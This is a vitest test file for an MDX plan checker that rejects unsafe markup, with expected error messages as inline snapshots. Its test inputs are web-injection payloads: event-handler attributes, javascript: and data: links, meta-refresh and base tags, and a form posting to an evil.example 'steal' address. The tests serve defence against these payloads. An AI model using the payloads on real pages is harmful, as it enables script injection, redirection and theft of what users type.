import { describe, expect, test } from 'vitest';
import { findBodyProblems } from '../../../src/lib/check/body-checks.ts';
import { formatProblem } from '../../../src/lib/problems.ts';

const check = (body: string) => findBodyProblems('plans/northwind.mdx', body, 40).map(formatProblem).join('\n');

describe('findBodyProblems', () => {
	test('accepts Markdown, the provided components and code in fences or inline code', () => {
		const body = [
			'## Why now',
			'The budget closes on **Dec 15**; see `config {x}`.',
			'<Callout tone="warning">Security review is the long pole.</Callout>',
			'<Metric label="Hours saved a week" value="120" />',
			'```mermaid',
			'flowchart LR',
			'  A{Legal} --> B',
			'```',
			'Literal braces are escaped: \\{ok\\}.',
		].join('\n');
		expect(findBodyProblems('plans/northwind.mdx', body, 40)).toEqual([]);
	});

	test('refuses imports and exports, which would run code at build time', () => {
		expect(check("import Secret from '../src/secret.ts'\nexport const x = 1")).toMatchInlineSnapshot(`
			"plans/northwind.mdx:40: body has an import line: "import Secret from '../src/secret.ts'".
			    Plans cannot import or export code. Use the built-in components (Callout, Metric, Quote) without importing them.
			plans/northwind.mdx:41: body has an export line: "export const x = 1".
			    Plans cannot import or export code. Use the built-in components (Callout, Metric, Quote) without importing them."
		`);
	});

	test('refuses expressions such as {process.env.MAP_PASSWORD_NORTHWIND}', () => {
		expect(check('Password: {process.env.MAP_PASSWORD_NORTHWIND}')).toMatchInlineSnapshot(`
			"plans/northwind.mdx:40: body has a curly brace, which MDX runs as code: "Password: {process.env.MAP_PASSWORD_NORTHWIND}".
			    Write \\{ and \\} for literal braces, or reword the sentence."
		`);
	});

	test('refuses components the project does not provide, naming the ones it does', () => {
		expect(check('<Chart data="x" />')).toMatchInlineSnapshot(`
			"plans/northwind.mdx:40: body uses the component <Chart>, which plans do not provide.
			    Use one of: Callout, Metric, Quote."
		`);
	});

	test('refuses script and iframe tags', () => {
		expect(check('<script>alert(1)</script>\n<iframe src="https://example.com"></iframe>')).toMatchInlineSnapshot(`
			"plans/northwind.mdx:40: body has a <script> tag, which runs code in the buyer's browser; the published page leaves it out.
			    Delete the tag and write the content as Markdown (links, lists, tables, <details>); for emphasis use <Callout>, <Metric> or <Quote>.
			plans/northwind.mdx:41: body has a <iframe> tag, which embeds another page; the published page leaves it out.
			    Delete the tag and write the content as Markdown (links, lists, tables, <details>); for emphasis use <Callout>, <Metric> or <Quote>."
		`);
	});

	test('refuses every markup the published page would drop, naming line, tag, attribute and value', () => {
		const body = [
			'<img src="x" onerror="window.pwned=1" />',
			'<details open ontoggle="window.pwned=2"><summary>More</summary>Text</details>',
			'<a href="javascript:window.pwned=3">Open</a> and <a href="jav&#x61;script:window.pwned=4">entity</a>',
			'See [the brief](javascript:window.pwned=5) and [escaped](javascript\\:x).',
			'<svg onload="window.pwned=6"></svg>',
			'<a href="data:text/html,<script>alert(1)</script>">data</a>',
			'<div style="position:fixed;inset:0">Cover</div>',
			'<meta http-equiv="refresh" content="0;url=https://evil.example/" />',
			'<base href="https://evil.example/" />',
			'<form action="https://evil.example/steal">',
			'</form>',
			'![Tracker](https://evil.example/pixel.png)',
			'[ref]: javascript:window.pwned=7',
		].join('\n');
		expect(check(body)).toMatchInlineSnapshot(`
			"plans/northwind.mdx:40: body has <img onerror="window.pwned=1">, whose onerror is an event handler, which runs code; the published page leaves it out.
			    Delete the attribute: plan text cannot run code in the buyer's browser.
			plans/northwind.mdx:41: body has <details ontoggle="window.pwned=2">, whose ontoggle is an event handler, which runs code; the published page leaves it out.
			    Delete the attribute: plan text cannot run code in the buyer's browser.
			plans/northwind.mdx:42: body has <a href="javascript:window.pwned=3">, whose href is not a web (http, https), email (mailto:) or relative link; the published page leaves it out.
			    Link to a web page (https://...), an email address (mailto:...) or a heading of the plan (#heading).
			plans/northwind.mdx:42: body has <a href="javascript:window.pwned=4">, whose href is not a web (http, https), email (mailto:) or relative link; the published page leaves it out.
			    Link to a web page (https://...), an email address (mailto:...) or a heading of the plan (#heading).
			plans/northwind.mdx:43: body has a Markdown link to "javascript:window.pwned=5", which is not a web (http, https), email (mailto:) or relative link; the published page leaves it out.
			    Link to a web page (https://...), an email address (mailto:...) or a heading of the plan (#heading).
			plans/northwind.mdx:43: body has a Markdown link to "javascript:x", which is not a web (http, https), email (mailto:) or relative link; the published page leaves it out.
			    Link to a web page (https://...), an email address (mailto:...) or a heading of the plan (#heading).
			plans/northwind.mdx:44: body has a <svg> tag, which can carry scripts and event handlers; the published page leaves it out.
			    Delete the tag and write the content as Markdown (links, lists, tables, <details>); for emphasis use <Callout>, <Metric> or <Quote>.
			plans/northwind.mdx:45: body has <a href="data:text/html,<script>alert(1)</script>">, whose href is not a web (http, https), email (mailto:) or relative link; the published page leaves it out.
			    Link to a web page (https://...), an email address (mailto:...) or a heading of the plan (#heading).
			plans/northwind.mdx:46: body has <div style="position:fixed;inset:0">, whose style is an inline style, which could cover or imitate the page; the published page leaves it out.
			    Delete it; for emphasis use <Callout>, <Metric> or <Quote>.
			plans/northwind.mdx:47: body has a <meta> tag, which can send the page somewhere else; the published page leaves it out.
			    Delete the tag and write the content as Markdown (links, lists, tables, <details>); for emphasis use <Callout>, <Metric> or <Quote>.
			plans/northwind.mdx:48: body has a <base> tag, which changes where every link of the page points; the published page leaves it out.
			    Delete the tag and write the content as Markdown (links, lists, tables, <details>); for emphasis use <Callout>, <Metric> or <Quote>.
			plans/northwind.mdx:49: body has a <form> tag, which could send what a buyer types to another site; the published page leaves it out.
			    Delete the tag and write the content as Markdown (links, lists, tables, <details>); for emphasis use <Callout>, <Metric> or <Quote>.
			plans/northwind.mdx:51: body has a Markdown image to "https://evil.example/pixel.png", which must be an image file of the plan (a path next to the plan file), not a web address or data URL; the published page leaves it out.
			    Put the image file next to the plan and write ![what it shows](./file.png).
			plans/northwind.mdx:52: body has a Markdown link to "javascript:window.pwned=7", which is not a web (http, https), email (mailto:) or relative link; the published page leaves it out.
			    Link to a web page (https://...), an email address (mailto:...) or a heading of the plan (#heading)."
		`);
	});

	test('reads a tag whose attributes span lines at the line the tag starts', () => {
		expect(check('Text\n<img\n  src="chart.png"\n  onload="window.pwned=1"\n/>')).toMatchInlineSnapshot(`
			"plans/northwind.mdx:41: body has <img onload="window.pwned=1">, whose onload is an event handler, which runs code; the published page leaves it out.
			    Delete the attribute: plan text cannot run code in the buyer's browser."
		`);
	});

	test('accepts a narrative in raw HTML and Markdown: links, lists, tables, details, images beside the plan', () => {
		const body = [
			'<p>A <strong>raw</strong> paragraph with <a href="https://example.com/">a link</a>, <a href="mailto:a@example.com">mail</a> and <a href="#next">an anchor</a>.</p>',
			'<details open><summary>More</summary>Text</details>',
			'<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
			'- [x] Done',
			'![Chart](./chart.png) and [docs](https://docs.example.com/a_(b)) and [here](#next)',
			'`<img onerror="in inline code">`',
			'```html',
			'<script>in a fence</script>',
			'```',
		].join('\n');
		expect(findBodyProblems('plans/northwind.mdx', body, 40)).toEqual([]);
	});
});
